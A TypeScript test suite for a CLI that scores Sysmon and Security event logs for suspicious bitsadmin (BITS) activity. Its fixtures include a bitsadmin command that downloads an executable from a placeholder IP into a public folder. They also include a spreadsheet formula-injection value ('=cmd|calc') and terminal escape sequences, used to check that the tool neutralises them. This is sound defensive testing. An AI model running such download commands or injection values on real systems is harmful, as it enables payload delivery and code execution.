/** Scores without a Splunk, as whole calls. */
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { assess, columnNames, defaultTuning } from '../../src/score/index.js';
import { factsOf } from '../../src/windows/index.js';
import { dataFolder, describeWithData } from '../data.js';
import { cli, run } from './fixture.js';

const DOWNLOAD = 'bitsadmin /transfer job /download /priority foreground http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe';
const event = (CommandLine: string, more: object = {}) => ({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Computer: 'ws07.corp.example', EventTime: '2026-11-01T10:00:01Z', EventData: { Image: 'C:\\Windows\\System32\\bitsadmin.exe', CommandLine, User: 'CORP\\pat', ...more } });
const lines = (...events: readonly object[]): string => events.map((one) => `${JSON.stringify(one)}\n`).join('');
const scoreOf = (process: string): number => {
  const facts = factsOf((field) => (field === 'process' ? process : undefined));
  return facts ? assess(facts, defaultTuning).score : -1;
};

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'bitsjobs-score-'));
  writeFileSync(join(folder, 'a.jsonl'), lines(event('notepad.exe a.txt', { Image: 'C:\\Windows\\notepad.exe' }), event(DOWNLOAD), event('bitsadmin /list')));
});
afterEach(() => { rmSync(folder, { recursive: true }); });

const score = (...args: readonly string[]) => run(['score', ...args], folder);
const jsonOf = (...args: readonly string[]) => score(...args, '--format', 'json').out.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as Record<string, unknown>);

test('a person reads the score, who, where it stands, what happened and why', () => {
  const { code, out, err } = score('a.jsonl');
  expect(code).toBe(0);
  const [head, what, ...why] = out.trimEnd().split('\n');
  expect(head).toBe(`${scoreOf(DOWNLOAD)} high  2026-11-01T10:00:01Z  ws07.corp.example  CORP\\pat  a.jsonl:2`);
  expect(what).toBe('    bitsadmin downloaded http://203.0.113.7/a.exe to C:\\Users\\Public\\a.exe');
  expect([why.length > 2, why.every((line) => line.startsWith('    - '))]).toEqual([true, true]);
  expect(err).toMatch(/^3 events read in .* 2 about BITS, 1 with a score of 50 or more\n$/);
});

test('a line of JSON has what the command gives, and where its record stands', () => {
  const [one, other] = jsonOf('a.jsonl', '--threshold', '0');
  expect(one).toMatchObject({ bits_score: scoreOf(DOWNLOAD), bits_severity: 'high', time: '2026-11-01T10:00:01Z', host: 'ws07.corp.example', user: 'CORP\\pat', bits_action: ['transfer'], bits_url: ['http://203.0.113.7/a.exe'], events: [{ file: 'a.jsonl', line: 2 }] });
  expect(Object.keys(one ?? {}).filter((name) => name.startsWith('bits_') && !columnNames.some((known) => known === name))).toEqual([]);
  expect(other).toMatchObject({ bits_score: scoreOf('bitsadmin /list'), events: [{ file: 'a.jsonl', line: 3 }] });
});

test('CSV opens in a spreadsheet, and no cell is a formula', () => {
  writeFileSync(join(folder, 'b.jsonl'), lines(event(DOWNLOAD, { User: '=cmd|calc' })));
  const { out } = score('b.jsonl', '--format', 'csv');
  const [header, row] = out.split(/\n(?=time|2026)/);
  expect(header).toMatch(/^time,host,user,bits_score,bits_severity,/);
  expect(row).toMatch(/^2026-11-01T10:00:01Z,ws07\.corp\.example,'=cmd\|calc,\d+,high,transfer,download,http/);
  expect(row?.trimEnd()).toMatch(/,b\.jsonl,1$/);
});

test('XML, rows of a data model as CSV, and packed files', () => {
  writeFileSync(join(folder, 'e.xml'), `<Events>\n<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4688</EventID><Channel>Security</Channel><Computer>ws08.corp.example</Computer></System><EventData><Data Name="NewProcessName">C:\\Windows\\System32\\bitsadmin.exe</Data><Data Name="CommandLine">${DOWNLOAD}</Data></EventData></Event>\n</Events>\n`);
  writeFileSync(join(folder, 'c.csv'), `process_name,process,dest,user\nbitsadmin.exe,"${DOWNLOAD}",ws09,pat\n`);
  writeFileSync(join(folder, 'z.jsonl.gz'), gzipSync(lines(event(DOWNLOAD))));
  const found = jsonOf('e.xml', 'c.csv', '--events', 'z.jsonl.gz');
  expect(found.map(({ host, bits_score: value, events }) => [host, value, events])).toEqual([
    ['ws08.corp.example', scoreOf(DOWNLOAD), [{ file: 'e.xml', line: 2 }]], ['ws09', scoreOf(DOWNLOAD), [{ file: 'c.csv', line: 2 }]], ['ws07.corp.example', scoreOf(DOWNLOAD), [{ file: 'z.jsonl.gz', line: 1 }]],
  ]);
  expect(found.map(({ time }) => time)).toEqual([undefined, undefined, '2026-11-01T10:00:01Z']);
});

test('settings of one’s own hold; a bad one is told, and its default holds', () => {
  writeFileSync(join(folder, 'mine.conf'), '[bitsscore]\nthreshold = 60\ntrusted_sources = 203.0.113.7\n[signal:transfer]\nimpact = much\n');
  const { out, err } = score('a.jsonl', '--settings', 'mine.conf');
  expect(out).toBe('no event reaches the threshold\n');
  expect(err).toContain('warning: [signal:transfer] impact: "much" is no whole number from 0 to 100; the default 60 holds\n');
  expect(err).toContain('0 with a score of 60 or more');
});

test('what an event holds cannot steer the terminal', () => {
  writeFileSync(join(folder, 'b.jsonl'), lines(event(`${DOWNLOAD} \u001b[2J`, { User: '\u001b]0;x\u0007' })));
  const { out } = score('b.jsonl');
  expect(out).toContain('\\u{1b}');
  expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
});

test.each([
  [[], 2, 'score needs events'],
  [['missing.jsonl'], 2, 'missing.jsonl cannot be read (ENOENT)'],
  [['a.jsonl', '--threshold', '101'], 2, '--threshold must be a whole number from 0 to 100'],
  [['a.jsonl', '--settings', 'none.conf'], 2, 'the settings none.conf cannot be read'],
  [['broken.jsonl'], 1, '1 record could not be read, the first of them: broken.jsonl:2 '],
])('%j ends in %i and a word', (args, code, word) => {
  writeFileSync(join(folder, 'broken.jsonl'), `${lines(event(DOWNLOAD))}{"EventID": 1,\n`);
  const outcome = score(...args);
  expect([outcome.code, outcome.err]).toEqual([code, expect.stringContaining(word)]);
  if (code === 1) expect(outcome.out).toContain('broken.jsonl:1');
});

describe('many events', () => {
  beforeEach(() => { writeFileSync(join(folder, 'many.jsonl'), lines(event(DOWNLOAD), event('bitsadmin /list')).repeat(15_000)); });

  test('Ctrl-C ends it between two pieces', async () => {
    const child = spawn(process.execPath, [cli, 'score', ...Array<string>(40).fill('many.jsonl')], { cwd: folder, stdio: ['ignore', 'pipe', 'pipe'] });
    const ended = new Promise<number | null>((done) => child.on('close', done));
    let err = '';
    child.stderr.on('data', (chunk: Buffer) => { err += chunk.toString(); });
    child.stdout.once('data', () => child.kill('SIGINT'));
    child.stdout.resume();
    expect([await ended, err]).toEqual([130, expect.stringContaining('interrupted')]);
  });

  test('a reader that goes away ends it without a word', () => {
    const { stdout, stderr } = spawnSync('sh', ['-c', `{ "${process.execPath}" "${cli}" score many.jsonl many.jsonl; echo "ended with $?" >&2; } | head -n 1`], { cwd: folder, encoding: 'utf8' });
    expect([stdout.split('\n').length, stderr]).toEqual([2, 'ended with 0\n']);
  });

  test('memory does not grow with what was read', () => {
    const { status, stderr } = spawnSync(process.execPath, ['--max-old-space-size=40', cli, 'score', ...Array<string>(2).fill('many.jsonl')], { cwd: folder, stdio: ['ignore', 'ignore', 'pipe'], encoding: 'utf8' });
    expect([status, stderr]).toEqual([0, expect.stringContaining('60000 events read')]);
  });
});

test('nothing that is about BITS is passed over unread: samples', () => {
  const samples = resolve(import.meta.dirname, '../../content/samples');
  const [quick, slow] = [score(samples, '--threshold', '0', '--format', 'json'), score(samples, '--threshold', '0', '--format', 'json', '--no-prefilter')];
  expect([quick.out.split('\n').length > 30, quick.out === slow.out]).toEqual([true, true]);
});

describeWithData('nothing that is about BITS is passed over unread', () => {
  test('recorded events and variants', () => {
    const all = ['events', 'variants.jsonl'].map((name) => join(dataFolder, name));
    const [quick, slow] = [score(...all, '--threshold', '0', '--format', 'json'), score(...all, '--threshold', '0', '--format', 'json', '--no-prefilter')];
    expect(readFileSync(join(dataFolder, 'variants.jsonl'), 'utf8').length).toBeGreaterThan(10_000);
    expect([quick.out.split('\n').length > 150, quick.out === slow.out]).toEqual([true, true]);
  });
});
